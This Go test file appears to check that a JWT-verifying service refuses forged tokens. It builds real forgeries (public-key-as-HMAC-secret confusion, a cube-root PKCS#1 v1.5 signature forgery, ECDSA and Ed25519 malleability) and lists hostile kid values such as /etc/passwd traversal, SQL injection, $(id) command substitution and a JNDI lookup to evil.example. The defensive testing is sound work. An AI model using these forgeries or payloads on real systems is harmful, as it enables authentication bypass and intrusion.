	for _, attack := range attacks {
		a.t.Run(attack.name, func(t *testing.T) {
			tokens := attack.tokens(a)
			require.NotEmpty(t, tokens)
			requests += len(tokens)
			for _, token := range tokens {
				a.attempt(t, attack, token)
			}
		})
		fmt.Fprintf(w, "%s\t%s\t%s\n", attack.name, attack.weaker, attack.want)
	}
	a.welcome()
	require.Zero(a.t, a.trapped.Load(), "somebody asked the attacker's server")
	w.Flush()
	a.t.Logf("%d attacks in %d variants at least, none let in\n\n%s", len(attacks), requests, table.String())
}

func (v verdict) String() string {
	text := fmt.Sprintf("%d", v.status)
	if v.code != "" {
		text += " " + v.code
	}
	switch {
	case v == byServer:
		return text + " (net/http)"
	case v.reason != v.code:
		return text + " (log: " + v.reason + ")"
	}
	return text
}

// welcome shows that whoever has a good token gets in, whichever key signed it. Without it, a service that is down would
// pass all of these tests.
func (a *arena) welcome() {
	for _, alg := range []string{"RS256", "PS256", "ES256", "ES384", "EdDSA"} {
		before := a.ran.Load()
		answer := get(a.t, a.api, "/", "Authorization: Bearer "+a.token(jwttest.Alg(alg)))
		require.Equal(a.t, http.StatusOK, answer.status, alg)
		require.Equal(a.t, before+1, a.ran.Load())
	}
	a.log.reset()
}

func (a *arena) attempt(t *testing.T, attack attack, token string) {
	t.Helper()
	before := a.ran.Load()
	a.log.reset()
	send := attack.send
	if send == nil {
		send = func(a *arena, token string) answer { return get(t, a.api, "/", "Authorization: Bearer "+token) }
	}
	got := send(a, token)
	require.Equal(t, before, a.ran.Load(), "the handler ran for %s", token)
	require.Equal(t, attack.want.status, got.status, "%s\n%s", token, got.body)
	if attack.want == byServer {
		return
	}
	require.Equal(t, attack.want.reason, a.log.last(), token)
	require.NotEmpty(t, got.challenges(), token)
	_, params := parseChallenge(t, got.challenges()[0])
	require.Equal(t, attack.want.code, params["error"], token)
	require.Equal(t, "no-store", got.header.Get("Cache-Control"))
	if len(token) > 40 { // nobody repeats what was sent, neither to the client nor to the log
		part := token[len(token)/2:][:16]
		require.NotContains(t, fmt.Sprint(got)+a.log.text(), part)
	}
}

// token is a good token, but for the options.
func (a *arena) token(options ...jwttest.TokenOption) string {
	return a.issuer.Token(append([]jwttest.TokenOption{jwttest.Scope("profile")}, options...)...)
}

// forged is a token of the attacker's own key under the kid of the issuer's.
func (a *arena) forged(options ...jwttest.TokenOption) string {
	return a.token(append([]jwttest.TokenOption{jwttest.Unpublished(), jwttest.Header("kid", a.rsa)}, options...)...)
}

func (a *arena) private() *rsa.PrivateKey { return a.issuer.PrivateKey(a.rsa).(*rsa.PrivateKey) }

// strangerJWK is the public half of what forged signs with.
func (a *arena) strangerJWK() map[string]any {
	header := strings.SplitN(a.token(jwttest.Unpublished()), ".", 2)[0]
	var names struct {
		Kid string `json:"kid"`
	}
	decoded, err := base64.RawURLEncoding.DecodeString(header)
	require.NoError(a.t, err)
	require.NoError(a.t, json.Unmarshal(decoded, &names))
	key := a.issuer.PublicKey(names.Kid).(*rsa.PublicKey)
	return map[string]any{"kty": "RSA", "n": b64(string(key.N.Bytes())), "e": "AQAB", "alg": "RS256", "use": "sig", "kid": a.rsa}
}

func (a *arena) certificate(t *testing.T) string {
	key := a.other.PrivateKey(a.other.KeyID())
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	require.NoError(t, err)
	return base64.StdEncoding.EncodeToString(der)
}

func (a *arena) raw(request string) answer { return raw(a.t, a.api, request) }

func (a *arena) post(path, contentType, body string) answer {
	return ask(a.t, a.api, http.MethodPost, path, body, "Content-Type: "+contentType)
}

func of(tokens ...string) []string { return tokens }

func fixed(tokens ...string) func(*arena) []string { return func(*arena) []string { return tokens } }

func one(options ...jwttest.TokenOption) func(*arena) []string {
	return func(a *arena) []string { return of(a.token(options...)) }
}

func good(a *arena) []string { return of(a.token()) }

// each makes a token for each variant.
func each[T any](variants []T, token func(*arena, T) string) func(*arena) []string {
	return func(a *arena) (tokens []string) {
		for _, variant := range variants {
			tokens = append(tokens, token(a, variant))
		}
		return tokens
	}
}

// raws sends GET requests with these fields, and TOKEN replaced, over a connection of its own: net/http's client would not
// send most of them. All answers have to be those of the last.
func raws(fields ...string) func(*arena, string) answer {
	return func(a *arena, token string) (last answer) {
		statuses := map[int]bool{}
		for _, field := range fields {
			last = a.raw("GET / HTTP/1.1\r\nHost: a\r\n" + strings.ReplaceAll(field, "TOKEN", token) + "\r\n\r\n")
			statuses[last.status] = true
			require.Len(a.t, statuses, 1, field)
		}
		return last
	}
}

// raw1 sends one whole request.
func raw1(request string) func(*arena, string) answer {
	return func(a *arena, token string) answer { return a.raw(strings.ReplaceAll(request, "TOKEN", token)) }
}

// reasons is a log of which the reasons can be read.
type reasons struct {
	mu    sync.Mutex
	lines []string
	found []string
}

func (l *reasons) Enabled(context.Context, slog.Level) bool { return true }
func (l *reasons) WithAttrs([]slog.Attr) slog.Handler       { return l }
func (l *reasons) WithGroup(string) slog.Handler            { return l }

func (l *reasons) Handle(_ context.Context, record slog.Record) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	line := record.Message
	record.Attrs(func(attr slog.Attr) bool {
		line += " " + attr.String()
		if attr.Key == "reason" {
			l.found = append(l.found, attr.Value.String())
		}
		return true
	})
	l.lines = append(l.lines, line)
	return nil
}

func (l *reasons) reset() {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.lines, l.found = nil, nil
}

func (l *reasons) last() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.found) == 0 {
		return ""
	}
	return l.found[len(l.found)-1]
}

func (l *reasons) text() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.lines, "\n")
}

const (
	octSecret  = "a secret that was published by mistake"
	goodHeader = `{"alg":"RS256","typ":"at+jwt","kid":"KID"}`
)

var kidInjections = []string{
	"../../../../../../etc/passwd", "/dev/null", `C:\Windows\win.ini`, "file:///etc/passwd", "TRAP/key.pem", "//evil.example/key",
	"' UNION SELECT 'secret' --", `x" OR "1"="1`, "1; DROP TABLE keys", "$(id)", "`id`", "|id", "%s%s%s%n", "%x%d", "${jndi:ldap://evil.example/a}",
	"{{7*7}}", "\x00", "a\r\nX: y", "__proto__", "constructor", "*", "null", "0", strings.Repeat("k", 4000),
}

func nothing([]byte) []byte { return nil }

func b64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func hs256(secret []byte) func([]byte) []byte {
	return func(input []byte) []byte {
		mac := hmac.New(sha256.New, secret)
		mac.Write(input)
		return mac.Sum(nil)
	}
}

// publicKeyAsSecret tries every way in which a public key is written down.
func publicKeyAsSecret(a *arena) (tokens []string) {
	public := a.issuer.PublicKey(a.rsa).(*rsa.PublicKey)
	pkix, err := x509.MarshalPKIXPublicKey(public)
	require.NoError(a.t, err)
	pkcs1 := x509.MarshalPKCS1PublicKey(public)
	secrets := [][]byte{
		pkix, pkcs1, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix}), pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1}),
		public.N.Bytes(), []byte(b64(string(public.N.Bytes()))), a.issuer.JWKS(), []byte(a.rsa),
	}
	for _, secret := range slices.Concat(secrets, [][]byte{bytes.TrimSpace(secrets[2]), bytes.TrimSpace(secrets[3])}) {
		for _, alg := range []string{"HS256", "HS384", "HS512"} {
			tokens = append(tokens, a.token(jwttest.Alg(alg), jwttest.Secret(secret)))
		}
	}
	return tokens
}

func ecdsaOutOfRange(a *arena) (tokens []string) {
	n := elliptic.P256().Params().N
	values := []*big.Int{new(big.Int), big.NewInt(1), n, new(big.Int).Sub(n, big.NewInt(1)), new(big.Int).Add(n, big.NewInt(1)), new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))}
	for _, r := range values {
		for _, s := range values {
			tokens = append(tokens, a.token(jwttest.Alg("ES256"), jwttest.Signature(func([]byte) []byte {
				return append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
			})))
		}
	}
	return tokens
}

func derOf(signature []byte) []byte {
	half := len(signature) / 2
	der, err := asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(signature[:half]), new(big.Int).SetBytes(signature[half:])})
	if err != nil {
		panic(err)
	}
	return der
}

// secondSpelling adds the order of the group to S (RFC 8032 §8.4).
func secondSpelling(signature []byte) []byte {
	order, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	s := slices.Clone(signature[ed25519.SignatureSize/2:])
	slices.Reverse(s)
	sum := new(big.Int).Add(new(big.Int).SetBytes(s), order).FillBytes(make([]byte, 32))
	slices.Reverse(sum)
	return append(signature[:32:32], sum...)
}

func pss(key *rsa.PrivateKey, salt int) func([]byte) []byte {
	return func(input []byte) []byte {
		signature, err := rsa.SignPSS(rand.Reader, key, crypto.SHA256, digestOf(input), &rsa.PSSOptions{SaltLength: salt})
		if err != nil {
			panic(err)
		}
		return signature
	}
}

func digestOf(input []byte) []byte {
	sum := sha256.Sum256(input)
	return sum[:]
}

// sha256Info is what stands before the digest (RFC 8017 §9.2, note 1); without its NULL, and that of SHA-1.
var (
	sha256Info    = []byte{0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20}
	sha256NoNull  = []byte{0x30, 0x2f, 0x30, 0x0b, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x04, 0x20}
	sha1Info      = []byte{0x30, 0x21, 0x30, 0x09, 0x06, 0x05, 0x2b, 0x0e, 0x03, 0x02, 0x1a, 0x05, 0x00, 0x04, 0x14}
	sha256BERInfo = []byte{0x30, 0x81, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20}
)

// encodedMessage is what a PKCS #1 v1.5 signature is the root of (RFC 8017 §9.2).
func encodedMessage(size int, info, digest []byte) []byte {
	tail := slices.Concat([]byte{0}, info, digest)
	return slices.Concat([]byte{0, 1}, bytes.Repeat([]byte{0xff}, size-2-len(tail)), tail)
}

// power signs whatever it is given. The private key stands in for a forger who has found another way to the root.
func power(key *rsa.PrivateKey, message []byte) []byte {
	s := new(big.Int).Exp(new(big.Int).SetBytes(message), key.D, key.N)
	return s.FillBytes(make([]byte, key.Size()))
}

// nearlyPKCS1 are messages that differ from the right one in something that a parser might pass over.
func nearlyPKCS1(a *arena) (tokens []string) {
	size := a.private().Size()
	for _, message := range []func(digest []byte) []byte{
		func(d []byte) []byte { return encodedMessage(size, sha256NoNull, d) },
		func(d []byte) []byte { return encodedMessage(size, sha256BERInfo, d) },
		func(d []byte) []byte { return encodedMessage(size, sha1Info, d[:20]) },
		func(d []byte) []byte { return encodedMessage(size, nil, d) },
		func(d []byte) []byte { m := encodedMessage(size, sha256Info, d); m[1] = 2; return m },
		func(d []byte) []byte { m := encodedMessage(size, sha256Info, d); m[10] = 0xfe; return m },
		func(d []byte) []byte { m := encodedMessage(size, sha256Info, d); m[2] = 0; return m },
		func(d []byte) []byte {
			m := encodedMessage(size-64, sha256Info, d) // the hash, and garbage behind it
			return append(m, bytes.Repeat([]byte{0xaa}, 64)...)
		},
		func(d []byte) []byte {
			m := encodedMessage(size, sha256Info, d) // garbage in the parameters of the algorithm
			copy(m[20:], []byte{0, 0x30, 0x31, 0x30, 0x0d})
			return m
		},
	} {
		tokens = append(tokens, a.token(jwttest.Signature(func(input []byte) []byte { return power(a.private(), message(digestOf(input))) })))
	}
	return tokens
}

// cubeRootForgery needs no private key. The cube of a number can be made to begin with any third of a modulus: with the
// padding, the hash, and then whatever comes.
func cubeRootForgery(input []byte) []byte {
	const size = 256
	head := slices.Concat([]byte{0, 1}, bytes.Repeat([]byte{0xff}, 8), []byte{0}, sha256Info, digestOf(input))
	wanted := new(big.Int).SetBytes(append(head, bytes.Repeat([]byte{0xff}, size-len(head))...))
	root := cubeRoot(wanted)
	cube := new(big.Int).Exp(root, big.NewInt(3), nil).FillBytes(make([]byte, size))
	if !bytes.HasPrefix(cube, head) {
		panic("the forgery does not begin as it should: it would be refused for the wrong reason")
	}
	return root.FillBytes(make([]byte, size))
}

// cubeRoot rounds down.
func cubeRoot(n *big.Int) *big.Int {
	low, high := new(big.Int), new(big.Int).Lsh(big.NewInt(1), uint(n.BitLen()/3+1))
	for one := big.NewInt(1); new(big.Int).Sub(high, low).Cmp(one) > 0; {
		middle := new(big.Int).Rsh(new(big.Int).Add(low, high), 1)
		if new(big.Int).Exp(middle, big.NewInt(3), nil).Cmp(n) <= 0 {
			low = middle
		} else {
			high = middle
		}
	}
	return low
}

// weakKey is RSA of 1024 bits. It is made of primes because crypto/rsa declines to make one.
func weakKey() *rsa.PrivateKey {
	for {
		p, err := rand.Prime(rand.Reader, 512)
		if err != nil {
			panic(err)
		}
		q, err := rand.Prime(rand.Reader, 512)
		if err != nil {
			panic(err)
		}
		one := big.NewInt(1)
		phi := new(big.Int).Mul(new(big.Int).Sub(p, one), new(big.Int).Sub(q, one))
		if d := new(big.Int).ModInverse(big.NewInt(65537), phi); d != nil {
			return &rsa.PrivateKey{PublicKey: rsa.PublicKey{N: new(big.Int).Mul(p, q), E: 65537}, D: d}
		}
	}
}

// respell sets a trailing bit that has to be zero in the last character of a signature of 256 bytes.
func respell(last byte) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	at := strings.IndexByte(alphabet, last)
	return alphabet[at^1 : at^1+1]
}
